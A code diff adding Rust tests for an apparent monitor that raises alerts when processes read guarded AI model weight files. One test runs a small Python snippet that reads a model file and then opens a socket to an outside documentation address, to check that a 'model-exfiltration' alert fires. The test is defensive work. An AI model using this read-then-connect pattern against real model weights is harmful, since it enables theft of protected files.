@@ -710,3 +710,97 @@ fn open_latency_of_a_guarded_file() {
         println!("{line}");
     }
 }
+
+#[test]
+fn a_glob_that_matches_anywhere_finds_new_files() {
+    let site = Site::new("guard-anywhere", false);
+    let suffix = format!(".{}", marker("gguf").replace('-', ""));
+    let config = std::fs::read_to_string(site.path("config.yaml")).unwrap();
+    std::fs::write(
+        site.path("config.yaml"),
+        config.replace("/models/**\"]", &format!("/models/**\", \"**/*{suffix}\"]")),
+    )
+    .unwrap();
+    let monitor = site.start();
+    // A new file with the suffix, anywhere on a watched file system (here below /tmp).
+    let file = site.path(&format!("outside/deep/er/model{suffix}"));
+    std::fs::create_dir_all(site.path("outside/deep/er")).unwrap();
+    std::fs::write(&file, WEIGHTS).unwrap();
+    let deadline = std::time::Instant::now() + WAIT;
+    loop {
+        let (pid, out) = python(READ, &[&file]);
+        assert_eq!(stdout(&out), WEIGHTS);
+        std::thread::sleep(Duration::from_millis(300));
+        if monitor
+            .lines()
+            .iter()
+            .any(|v| v["security_rule.name"] == "protected-file-read" && v["process.pid"] == pid)
+        {
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the new file was never guarded: {}",
+            monitor.stderr()
+        );
+    }
+    // A file renamed to the suffix is found too.
+    let plain = site.path("outside/plain.bin");
+    std::fs::write(&plain, WEIGHTS).unwrap();
+    let renamed = site.path(&format!("outside/renamed{suffix}"));
+    std::fs::rename(&plain, &renamed).unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    let (pid, out) = python(READ, &[&renamed]);
+    assert_eq!(stdout(&out), WEIGHTS);
+    alert_of(&monitor, "protected-file-read", pid);
+}
+
+#[test]
+fn a_guarded_directory_created_after_the_start() {
+    let site = Site::new("guard-later", false);
+    let config = std::fs::read_to_string(site.path("config.yaml")).unwrap();
+    std::fs::write(
+        site.path("config.yaml"),
+        config.replace("/models/**", "/later/**"),
+    )
+    .unwrap();
+    let monitor = site.start();
+    std::fs::create_dir_all(site.path("later/m")).unwrap();
+    let file = site.path("later/m/w.bin");
+    std::fs::write(&file, WEIGHTS).unwrap();
+    let deadline = std::time::Instant::now() + WAIT;
+    loop {
+        let (pid, out) = python(READ, &[&file]);
+        assert_eq!(stdout(&out), WEIGHTS);
+        std::thread::sleep(Duration::from_millis(300));
+        if monitor
+            .lines()
+            .iter()
+            .any(|v| v["security_rule.name"] == "protected-file-read" && v["process.pid"] == pid)
+        {
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the directory made after the start was never guarded: {}",
+            monitor.stderr()
+        );
+    }
+}
+
+#[test]
+fn an_ungoverned_reader_that_connects_out_is_model_exfiltration() {
+    let site = Site::new("guard-exfil", false);
+    let monitor = site.start();
+    let model = site.path("models/model.safetensors");
+    // Read, then connect at once (UDP: no packet leaves) to an address that is not loopback.
+    let (pid, out) = python(
+        "import socket, sys\nopen(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('198.51.100.7', 9))\nprint('done')",
+        &[&model],
+    );
+    assert_eq!(stdout(&out), "done", "{out:?}");
+    let alert = alert_of(&monitor, "model-exfiltration", pid);
+    assert_eq!(alert["file.path"], model);
+    assert_eq!(alert["network.peer.address"], "198.51.100.7");
+    assert_eq!(alert["severity"], "critical");
+}
